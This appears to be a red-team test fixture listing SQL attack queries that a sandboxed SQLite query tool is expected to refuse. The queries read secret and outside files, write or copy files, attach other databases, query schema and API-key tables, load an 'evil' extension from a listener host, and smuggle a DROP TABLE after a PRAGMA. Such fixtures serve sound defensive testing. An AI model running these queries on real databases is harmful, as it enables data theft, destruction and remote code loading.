-- # Attacks that know where the files of the database lie, for `streamlink-sql redteam`, which puts paths and addresses in the place of
-- # {opened} (the file that the engine has open), {database}, {secret}, {outside} and {listener}. They refuse as they stand, too.

-- class: file-read

-- refuse: policy_refused
SELECT readfile('{secret}')

-- refuse: policy_refused
SELECT * FROM fsdir('{outside}')

-- refuse: policy_refused
SELECT edit('{secret}')

-- refuse: policy_refused
CREATE VIRTUAL TABLE temp.c USING csv(filename='{secret}')

-- class: file-write

-- refuse: policy_refused
SELECT writefile('{outside}/x', 'x')

-- refuse: policy_refused
SELECT writefile('{opened}', 'x')

-- refuse: policy_refused
VACUUM INTO '{outside}/copy.db'

-- refuse: policy_refused
ATTACH '{outside}/new.db' AS n

-- refuse: policy_refused
ATTACH 'file:{outside}/new.db?mode=rwc' AS n

-- refuse: policy_refused
ATTACH 'here.db' AS n

-- refuse: policy_refused
PRAGMA journal_mode = WAL

-- refuse: policy_refused
PRAGMA user_version = 7

-- class: other-schemas

-- refuse: policy_refused
ATTACH '{database}' AS whole

-- refuse: policy_refused
ATTACH 'file:{database}?mode=ro' AS whole

-- refuse: invalid_sql
SELECT * FROM main.salaries

-- refuse: invalid_sql
SELECT secret FROM main."admin.api_keys"

-- refuse: invalid_sql
WITH orders AS (SELECT * FROM main.salaries) SELECT * FROM orders

-- refuse: policy_refused
SELECT sql FROM main.sqlite_master

-- refuse: policy_refused
SELECT * FROM temp.sqlite_temp_master

-- class: code

-- refuse: policy_refused
SELECT load_extension('{outside}/evil')

-- class: network

-- refuse: policy_refused
ATTACH 'http://{listener}/x.db' AS n

-- refuse: policy_refused
SELECT load_extension('http://{listener}/evil.so')

-- class: configuration

-- refuse: policy_refused
PRAGMA temp_store_directory = '{outside}'

-- refuse: policy_refused
PRAGMA query_only = 0; DROP TABLE orders
